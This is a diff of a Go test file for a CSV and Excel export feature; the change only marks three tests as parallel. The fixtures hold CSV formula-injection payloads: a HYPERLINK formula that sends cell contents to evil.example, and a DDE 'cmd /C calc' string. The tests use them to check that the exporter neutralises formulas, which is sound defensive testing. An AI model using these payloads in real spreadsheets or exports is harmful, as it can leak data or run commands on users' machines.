@@ -14,6 +14,7 @@ import (
 const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")`
 
 func TestCSVCell(t *testing.T) {
+	t.Parallel()
 	tests := []struct{ in, want string }{
 		{hyperlink, "'" + hyperlink},
 		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
@@ -50,6 +51,7 @@ func hostile(invoice bool) Statement {
 // TestCSVNeutralisesFormulas: the texts people typed reach the CSV as text,
 // the amounts as numbers.
 func TestCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	var buf bytes.Buffer
 	if err := WriteCSV(&buf, hostile(false)); err != nil {
 		t.Fatal(err)
@@ -72,6 +74,7 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 // TestXLSXWritesNoFormulas: the Excel exports (statement, itinerary) write
 // people's texts as text cells, never as formulas.
 func TestXLSXWritesNoFormulas(t *testing.T) {
+	t.Parallel()
 	var buf bytes.Buffer
 	if err := WriteXLSX(&buf, hostile(true)); err != nil {
 		t.Fatal(err)
